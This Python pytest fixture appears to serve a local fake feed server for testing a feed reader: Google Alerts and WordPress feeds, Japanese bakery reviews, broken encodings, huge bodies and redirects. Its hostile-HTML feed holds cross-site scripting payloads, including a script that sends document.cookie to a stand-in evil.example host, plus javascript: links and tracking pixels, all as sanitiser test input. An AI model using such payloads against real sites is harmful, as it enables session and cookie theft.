"""A local web server that answers like real feed hosts: Google Alerts, a WordPress comment
feed, a sloppy RSS feed without guids, a shop's web page announcing its feeds, and the ways
hosts go wrong (404, garbage, a huge body, redirects, a redirect to plain http elsewhere).

Conditional GET works as on real servers: each feed has an ETag and a Last-Modified, and a
request carrying a matching If-None-Match (or, without one, an If-Modified-Since not older than
the feed) gets 304 with no body. Every request's path and headers are recorded in `requests`.

    def test_x(feed_server: FeedServer) -> None:
        url = feed_server.url("/alerts/feeds/04175468913983673025/4428013283581841004")
"""

from __future__ import annotations

import dataclasses
import email.utils
import hashlib
import threading
from collections.abc import Iterator
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

ALERTS_PATH = "/alerts/feeds/04175468913983673025/4428013283581841004"
COMMENTS_PATH = "/blog/comments/feed/"
NO_GUID_PATH = "/reviews/rss.xml"
SHOP_PAGE_PATH = "/shop/"
PLAIN_PAGE_PATH = "/about.html"
GARBAGE_PATH = "/garbage"
EMPTY_PATH = "/empty.xml"
HUGE_PATH = "/huge.xml"  # 6 MB with a Content-Length
HUGE_STREAM_PATH = "/huge-stream.xml"  # 6 MB without one: only reading finds the size
MOVED_PATH = "/old-feed"  # 301 to COMMENTS_PATH
LOOP_PATH = "/loop"  # redirects to itself
TO_INSECURE_PATH = "/to-insecure"  # 302 to http://example.com/feed
HUGE_BYTES = 6 * 1024 * 1024

FEED_MODIFIED = datetime(2026, 11, 20, 9, 0, 0, tzinfo=UTC)


def google_alerts_atom(extra_entries: str = "") -> bytes:
    """A Google Alerts feed for a bakery, in the shape Google sends: Atom, html titles with <b>
    around the matched words, links through google.com/url, empty <author><name>."""
    return f"""<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom" \
xmlns:idx="urn:atom-extension:indexing"><id>tag:google.com,2005:reader/user/04175468913983673025/\
state/com.google/alerts/4428013283581841004</id><title>Google アラート - メープル堂</title><link \
href="https://www.google.com/alerts/feeds/04175468913983673025/4428013283581841004" rel="self">\
</link><updated>2026-11-20T09:00:00Z</updated>{extra_entries}<entry><id>tag:google.com,2013:\
googlealerts/feed:8974135267215335962</id><title type="html">&lt;b&gt;メープル堂&lt;/b&gt;の\
新作モンブラン、行列ができる人気に</title><link href="https://www.google.com/url?rct=j&amp;sa=t\
&amp;url=https://gourmet.example.jp/news/2026/11/maple-do-montblanc%3Fref%3Drss&amp;ct=ga&amp;\
cd=CAIyHGU4ZTJkZjQ3OTVkYmIzMTc6Y28uanA6amE6SlA&amp;usg=AFQjCNHUcRGtHY1ygcMDkVS68IgpYs7Wpg"></link>\
<published>2026-11-20T08:30:00Z</published><updated>2026-11-20T08:30:00Z</updated><content \
type="html">駅前の&lt;b&gt;メープル堂&lt;/b&gt;が今月発売した栗のモンブランが話題に。\
週末は開店前から&amp;nbsp;...</content><author><name></name></author></entry><entry><id>tag:\
google.com,2013:googlealerts/feed:13685523368333461374</id><title type="html">Why &lt;b&gt;Maple\
 Bakery&lt;/b&gt; is worth the queue &amp;amp; the wait</title><link href="https://www.google.com/url\
?rct=j&amp;sa=t&amp;url=https://food.example.com/2026/11/maple-bakery-review&amp;ct=ga&amp;cd=\
CAIyHGU4ZTJkZjQ3OTVkYmIzMTc6Y29tOmVuOlVT&amp;usg=AFQjCNEZXRySX8eW_IyksUe5d7lidLUXxg"></link>\
<published>2026-11-18T12:00:00Z</published><updated>2026-11-18T12:00:00Z</updated><content \
type="html">The croissants at &lt;b&gt;Maple Bakery&lt;/b&gt; were flaky, but the staff \
ignored us for twenty minutes&amp;nbsp;...</content><author><name></name></author></entry><entry>\
<id>tag:google.com,2013:googlealerts/feed:16151843349267390757</id><title type="html">\
&lt;b&gt;メープル堂&lt;/b&gt; 口コミ：店員さんの対応が残念でした</title><link href="https://www.\
google.co.jp/url?rct=j&amp;sa=t&amp;url=https://review.example.jp/shops/1234/comments/5678&amp;\
ct=ga&amp;usg=AFQjCNGa9L5blE9C_ZfDAAvEn2wd4T6SMg"></link><published>2026-11-02T03:00:00Z\
</published><updated>2026-11-02T03:00:00Z</updated><content type="html">パンは美味しいのですが、\
レジで&lt;b&gt;メープル堂&lt;/b&gt;の店員さんに二度も注文を間違えられました&amp;nbsp;...</content>\
<author><name></name></author></entry></feed>""".encode()


def alerts_entry(number: int, title: str, real_url: str, published: str) -> str:
    """One more Google Alerts <entry> (for a feed that has changed since the last fetch)."""
    return (f'<entry><id>tag:google.com,2013:googlealerts/feed:{number}</id><title type="html">'
            f"{title}</title><link href=\"https://www.google.com/url?rct=j&amp;sa=t&amp;url="
            f'{real_url}&amp;ct=ga&amp;usg=AFQjCN{number}"></link><published>{published}'
            f"</published><updated>{published}</updated><content type=\"html\">{title}"
            "</content><author><name></name></author></entry>")


def wordpress_comments_rss(extra_items: str = "") -> bytes:
    """A WordPress site's comment feed (/comments/feed/): RSS 2.0, a guid per comment."""
    return f"""<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"
	xmlns:content="http://purl.org/rss/1.0/modules/content/"
	xmlns:dc="http://purl.org/dc/elements/1.1/"
	xmlns:atom="http://www.w3.org/2005/Atom"
	xmlns:sy="http://purl.org/rss/1.0/modules/syndication/">
<channel>
	<title>Comments for メープル堂ブログ</title>
	<atom:link href="https://blog.maple-do.example.jp/comments/feed/" rel="self"
		type="application/rss+xml" />
	<link>https://blog.maple-do.example.jp</link>
	<description>町のパン屋の日々</description>
	<lastBuildDate>Fri, 20 Nov 2026 09:00:00 +0000</lastBuildDate>
	<language>ja</language>
	<sy:updatePeriod>hourly</sy:updatePeriod>
	<generator>https://wordpress.org/?v=6.8</generator>
	{extra_items}
	<item>
		<title>Comment on 冬季限定シュトーレン by 佐藤</title>
		<link>https://blog.maple-do.example.jp/2026/11/stollen/#comment-45</link>
		<dc:creator><![CDATA[佐藤]]></dc:creator>
		<pubDate>Thu, 19 Nov 2026 22:15:00 +0000</pubDate>
		<guid isPermaLink="false">https://blog.maple-do.example.jp/?p=123#comment-45</guid>
		<description><![CDATA[予約はいつまでできますか？ 去年は売り切れで買えませんでした。]]>
		</description>
		<content:encoded><![CDATA[<p>予約はいつまでできますか？<br />
去年は売り切れで買えませんでした。</p>
]]></content:encoded>
	</item>
	<item>
		<title>Comment on Holiday opening hours by Jamie</title>
		<link>https://blog.maple-do.example.jp/2026/11/holiday-hours/#comment-44</link>
		<dc:creator><![CDATA[Jamie]]></dc:creator>
		<pubDate>Tue, 10 Nov 2026 07:40:00 +0000</pubDate>
		<guid isPermaLink="false">https://blog.maple-do.example.jp/?p=120#comment-44</guid>
		<description><![CDATA[Are you open on the 23rd? Your page says one thing &amp; Google
		another.]]></description>
		<content:encoded><![CDATA[<p>Are you open on the 23rd?
Your page says one thing &amp; Google another.</p>
<script>alert("hostile")</script>
]]></content:encoded>
	</item>
</channel>
</rss>
""".encode()


def wordpress_comment_item(number: int, author: str, text: str, pub_date: str) -> str:
    return (f"<item><title>Comment on 冬季限定シュトーレン by {author}</title>"
            f"<link>https://blog.maple-do.example.jp/2026/11/stollen/#comment-{number}</link>"
            f"<dc:creator><![CDATA[{author}]]></dc:creator><pubDate>{pub_date}</pubDate>"
            f'<guid isPermaLink="false">https://blog.maple-do.example.jp/?p=123#comment-{number}'
            f"</guid><description><![CDATA[{text}]]></description></item>")


def rss_without_guids() -> bytes:
    """A review site's sloppy RSS 0.92-style feed: no guids, one item without a date."""
    return """<?xml version="1.0" encoding="Shift_JIS"?>
<rss version="2.0"><channel>
<title>口コミ新着 - メープル堂</title>
<link>https://review.example.jp/shops/1234</link>
<description>メープル堂の新着口コミ</description>
<language>ja-JP</language>
<item>
<title>★★★★☆ 焼きたてが最高</title>
<link>https://review.example.jp/shops/1234/comments/5701</link>
<description>&lt;p&gt;朝一番のクロワッサンは絶品。&lt;/p&gt;</description>
<pubDate>Sat, 14 Nov 2026 10:00:00 +0900</pubDate>
</item>
<item>
<title>★★☆☆☆ 待ち時間が長い</title>
<link>https://review.example.jp/shops/1234/comments/5699</link>
<description>レジが一台しかなく、20分待ちました。</description>
</item>
</channel></rss>
""".encode("shift_jis")


def shop_page(port: int) -> bytes:
    """The shop's home page announcing its feeds: relative, root-relative and absolute hrefs,
    a duplicate, a stylesheet and a JSON Feed that are not RSS/Atom."""
    return f"""<!DOCTYPE html>
<html lang="ja"><head>
<meta charset="utf-8">
<title>メープル堂 | 町のパン屋</title>
<link rel="stylesheet" href="/style.css">
<link rel="alternate" type="application/rss+xml"
      title="メープル堂ブログ &raquo; コメントフィード" href="{COMMENTS_PATH}">
<link rel="alternate" type="application/atom+xml" href="news.atom">
<link rel="Alternate" type="application/rss+xml; charset=UTF-8" title="Reviews"
      href="http://127.0.0.1:{port}{NO_GUID_PATH}">
<link rel="alternate" type="application/rss+xml" title="Duplicate" href="/blog/comments/feed/#top">
<link rel="alternate" type="application/rss+xml" title="Elsewhere" href="http://feeds.example.com/maple">
<link rel="alternate" type="application/feed+json" title="JSON Feed" href="/feed.json">
<link rel="alternate" hreflang="en" href="/en/">
</head><body><h1>メープル堂</h1><p>いらっしゃいませ。</p></body></html>
""".encode()


def broken_utf8_rss(*, declare: bool = True) -> bytes:
    """A UTF-8 comment feed in Japanese where one comment carries bytes that are not UTF-8
    (a plugin that cut a multi-byte character in half, a Latin-1 paste)."""
    prolog = '<?xml version="1.0" encoding="UTF-8"?>' if declare else '<?xml version="1.0"?>'
    head = f"""{prolog}<rss version="2.0"><channel><title>メープル堂ブログのコメント</title>
<link>https://blog.maple-do.example.jp</link><language>ja</language>
<item><title>田中より</title><guid isPermaLink="false">c-1</guid>
<link>https://blog.maple-do.example.jp/c/1</link>
<description>シュトーレンの予約をお願いします。</description>
<pubDate>Thu, 19 Nov 2026 10:00:00 +0000</pubDate></item>
<item><title>""".encode()
    broken = "壊れた文字".encode()[:-1] + b" caf\xe9 \xff\xfe"  # half a kanji, Latin-1, junk
    tail = """</title><guid isPermaLink="false">c-2</guid>
<link>https://blog.maple-do.example.jp/c/2</link>
<description>文字化けのコメント</description>
<pubDate>Thu, 19 Nov 2026 11:00:00 +0000</pubDate></item>
<item><title>鈴木より</title><guid isPermaLink="false">c-3</guid>
<link>https://blog.maple-do.example.jp/c/3</link>
<description>返金はできますか？</description>
<pubDate>Thu, 19 Nov 2026 12:00:00 +0000</pubDate></item>
</channel></rss>""".encode()
    return head + broken + tail


HOSTILE_HTML = """<p>Loved the <b>stollen</b>!</p>
<script>document.location='https://evil.example/steal?c='+document.cookie</script>
<style>body { display: none } .x { background: url(https://tracker.example/css.png) }</style>
<img src="https://tracker.example/pixel.gif" width="1" height="1" onerror="alert('img')">
<p style="position:fixed;top:0">Call us: <a href="javascript:alert('link')">here</a>
<a href="https://maple-do.example.jp/">our shop</a></p>
<iframe src="https://evil.example/frame"></iframe><noscript>enable scripts</noscript>"""


def hostile_html_atom() -> bytes:
    """An Atom feed whose entries carry script, CSS, tracking images and javascript: links,
    as HTML (escaped) and as XHTML (inline), with a javascript: entry link."""
    escaped = HOSTILE_HTML.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Reviews</title><id>urn:reviews</id>
<updated>2026-11-20T00:00:00Z</updated>
<entry><id>urn:reviews:1</id><title type="html">Great &lt;script&gt;alert('title')&lt;/script&gt;\
 stollen</title><updated>2026-11-20T00:00:00Z</updated>
<link href="https://reviews.example/1"/><content type="html">{escaped}</content></entry>
<entry><id>urn:reviews:2</id><title>Inline</title><updated>2026-11-19T00:00:00Z</updated>
<link href="javascript:alert('entry-link')"/>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Nice staff.</p>\
<script>alert('xhtml')</script><style>p {{ color: red }}</style>\
<img src="https://tracker.example/x.gif"/></div></content></entry>
<entry><id>urn:reviews:3</id><title>No date, odd date</title>\
<updated>not a date at all</updated><published>99999-01-01T00:00:00Z</published>\
<link href="https://reviews.example/3"/><summary>Plain summary</summary></entry>
</feed>""".encode()


def huge_entry_rss(size: int = 5_000_000) -> bytes:
    """One comment of `size` bytes of HTML (just under the app's 5 MiB answer bound) next to
    an ordinary one."""
    sentence = "とても長いコメント。"  # 30 bytes of UTF-8
    body = "<p>" + sentence * (size // len(sentence.encode())) + "</p>"
    return f"""<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"
xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>Comments</title>
<item><title>Long</title><guid>huge-1</guid><link>https://blog.example.jp/c/huge</link>
<content:encoded><![CDATA[{body}]]></content:encoded>
<pubDate>Thu, 19 Nov 2026 10:00:00 +0000</pubDate></item>
<item><title>Short</title><guid>short-1</guid><link>https://blog.example.jp/c/short</link>
<description>Thanks!</description><pubDate>Thu, 19 Nov 2026 11:00:00 +0000</pubDate></item>
</channel></rss>""".encode()


PLAIN_PAGE = b"""<!doctype html><html><head><title>About us</title></head>
<body><p>We bake every morning.</p></body></html>"""

GARBAGE = bytes(range(256)) * 8 + b"\x00PK\x03\x04 not a feed at all"


@dataclasses.dataclass
class Route:
    status: int = 200
    body: bytes = b""
    content_type: str = "application/xml; charset=utf-8"
    headers: dict[str, str] = dataclasses.field(default_factory=dict)
    # Which validators the host supports: real servers often send only one of the two.
    etag: bool = False
    last_modified: datetime | None = None
    send_length: bool = True

    @property
    def etag_value(self) -> str:
        return '"' + hashlib.sha256(self.body).hexdigest()[:16] + '"'


@dataclasses.dataclass(frozen=True)
class RecordedRequest:
    method: str
    path: str
    headers: dict[str, str]  # lower-case names


class FeedServer:
    def __init__(self) -> None:
        self.routes: dict[str, Route] = {}
        self.requests: list[RecordedRequest] = []
        self._lock = threading.Lock()
        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), _handler_for(self))
        self._httpd.daemon_threads = True
        self.port = self._httpd.server_address[1]
        self._thread = threading.Thread(target=self._httpd.serve_forever,
                                        kwargs={"poll_interval": 0.02}, daemon=True)
        self._install_defaults()

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.port}{path}"

    def start(self) -> FeedServer:
        self._thread.start()
        return self

    def stop(self) -> None:
        self._httpd.shutdown()
        self._httpd.server_close()

    def set(self, path: str, route: Route) -> None:
        with self._lock:
            self.routes[path] = route

    def update(self, path: str, body: bytes, *, modified: datetime) -> None:
        """The feed changed: new body, so a new ETag, and a new Last-Modified."""
        with self._lock:
            route = self.routes[path]
            route.body = body
            if route.last_modified is not None:
                route.last_modified = modified

    def requests_to(self, path: str) -> list[RecordedRequest]:
        with self._lock:
            return [r for r in self.requests if r.path == path]

    def _install_defaults(self) -> None:
        atom = "application/atom+xml; charset=UTF-8"
        rss = "application/rss+xml; charset=UTF-8"
        self.routes.update({
            ALERTS_PATH: Route(body=google_alerts_atom(), content_type=atom, etag=True,
                               last_modified=FEED_MODIFIED),
            COMMENTS_PATH: Route(body=wordpress_comments_rss(), content_type=rss, etag=True,
                                 last_modified=FEED_MODIFIED),
            # Only Last-Modified, and the charset comes from the XML declaration alone.
            NO_GUID_PATH: Route(body=rss_without_guids(), content_type="text/xml",
                                last_modified=FEED_MODIFIED),
            SHOP_PAGE_PATH: Route(body=shop_page(self.port),
                                  content_type="text/html; charset=utf-8"),
            PLAIN_PAGE_PATH: Route(body=PLAIN_PAGE, content_type="text/html"),
            GARBAGE_PATH: Route(body=GARBAGE, content_type="application/octet-stream"),
            EMPTY_PATH: Route(body=b"", content_type=rss),
            HUGE_PATH: Route(body=_huge_feed(), content_type=rss),
            HUGE_STREAM_PATH: Route(body=_huge_feed(), content_type=rss, send_length=False),
            MOVED_PATH: Route(status=301, headers={"Location": COMMENTS_PATH}),
            LOOP_PATH: Route(status=302, headers={"Location": LOOP_PATH}),
            TO_INSECURE_PATH: Route(status=302, headers={"Location": "http://example.com/feed"}),
        })


def _huge_feed() -> bytes:
    item = b"<item><title>x</title><description>" + b"y" * 1000 + b"</description></item>"
    head = b'<?xml version="1.0"?><rss version="2.0"><channel><title>huge</title>'
    count = HUGE_BYTES // len(item) + 1
    return head + item * count + b"</channel></rss>"


def _not_modified(route: Route, headers: dict[str, str]) -> bool:
    """RFC 9110 13.2.2: If-None-Match decides when present; else If-Modified-Since."""
    if "if-none-match" in headers:
        if not route.etag:
            return False
        wanted = {tag.strip().removeprefix("W/") for tag in headers["if-none-match"].split(",")}
        return route.etag_value in wanted or "*" in wanted
    if "if-modified-since" in headers and route.last_modified is not None:
        try:
            since = email.utils.parsedate_to_datetime(headers["if-modified-since"])
        except (TypeError, ValueError):
            return False
        if since.tzinfo is None:
            since = since.replace(tzinfo=UTC)
        return route.last_modified <= since
    return False


def _handler_for(server: FeedServer) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            headers = {name.lower(): value for name, value in self.headers.items()}
            path = self.path
            with server._lock:
                server.requests.append(RecordedRequest("GET", path, headers))
                route = server.routes.get(path)
                if route is not None:  # a snapshot, so a concurrent update cannot tear it
                    route = dataclasses.replace(route, headers=dict(route.headers))
            if route is None:
                self._answer(404, b"<html><body>Not Found</body></html>", "text/html", {}, True)
                return
            extra = dict(route.headers)
            if route.etag:
                extra["ETag"] = route.etag_value
            if route.last_modified is not None:
                extra["Last-Modified"] = email.utils.format_datetime(route.last_modified,
                                                                     usegmt=True)
            if route.status == 200 and _not_modified(route, headers):
                self._answer(304, b"", "", extra, False)
                return
            self._answer(route.status, route.body, route.content_type, extra, route.send_length)

        def _answer(self, status: int, body: bytes, content_type: str,
                    headers: dict[str, str], send_length: bool) -> None:
            try:
                self.send_response(status)
                if content_type:
                    self.send_header("Content-Type", content_type)
                for name, value in headers.items():
                    self.send_header(name, value)
                if send_length and status != 304:
                    self.send_header("Content-Length", str(len(body)))
                self.send_header("Connection", "close")
                self.end_headers()
                if body and status != 304:
                    for start in range(0, len(body), 64 * 1024):
                        self.wfile.write(body[start:start + 64 * 1024])
            except (BrokenPipeError, ConnectionResetError):
                pass  # the client stopped reading (a body over its size bound): expected

        def log_message(self, format: str, *args: object) -> None:
            pass

    return Handler


@pytest.fixture
def feed_server() -> Iterator[FeedServer]:
    server = FeedServer().start()
    try:
        yield server
    finally:
        server.stop()
